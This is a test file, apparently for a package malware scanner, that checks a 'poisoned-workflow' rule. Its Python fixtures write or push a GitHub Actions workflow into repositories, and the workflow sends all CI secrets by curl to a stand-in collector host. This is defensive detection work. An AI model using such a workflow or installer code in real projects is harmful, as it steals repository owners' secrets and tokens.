import { expect, test } from 'vitest';
import { inspect, python, wheel } from '../../support/inspect.ts';

const ALL =
  "'''on: push\\njobs:\\n  a:\\n    steps:\\n      - run: curl -d \"$D\" https://c.collector.invalid/\\n        env:\\n          D: @{{ toJSON(secrets) }}\\n'''".replace(
    '@',
    '$',
  );
const ONE = ALL.replace('toJSON(secrets)', 'secrets.PYPI_TOKEN');

const putter = (workflow: string): string =>
  python(
    'import base64, requests',
    `TEXT = ${workflow}`,
    'def spread(name, head):',
    "    place = f'https://api.github.com/repos/{name}/contents/.github/workflows/format.yml'",
    "    requests.put(place, headers=head, json={'content': base64.b64encode(TEXT.encode()).decode()})",
  );

test('a workflow with every secret in it, put into repositories by their code host, is malware', async () => {
  expect(await inspect('poisoned-workflow', wheel({ 'pkg/a.py': putter(ALL) }))).toMatchObject([
    { class: 'malware', score: 10, context: 'call', path: 'pkg/a.py', line: 5 },
  ]);
});

test('the same, written into the repository that somebody works in', async () => {
  const writer = python(
    'import os',
    `TEXT = ${ALL}`,
    'def install(root):',
    "    with open(os.path.join(root, '.github', 'workflows', 'lint.yml'), 'w') as file:",
    '        file.write(TEXT)',
  );

  expect(await inspect('poisoned-workflow', wheel({ 'pkg/a.py': writer }))).toMatchObject([
    { class: 'malware', score: 10 },
  ]);
});

test('look-alike: a generator that names one secret, and a scanner that looks for all', async () => {
  const scanner = python(
    'import re',
    "RULE = re.compile(r'\\$\\{\\{ toJSON\\(secrets\\) \\}\\}')",
    `EXAMPLE = ${ALL}`,
    'def check(path):',
    '    return RULE.search(open(path).read())',
  );

  expect(await inspect('poisoned-workflow', wheel({ 'pkg/a.py': putter(ONE) }))).toEqual([]);
  expect(await inspect('poisoned-workflow', wheel({ 'pkg/a.py': scanner }))).toEqual([]);
});
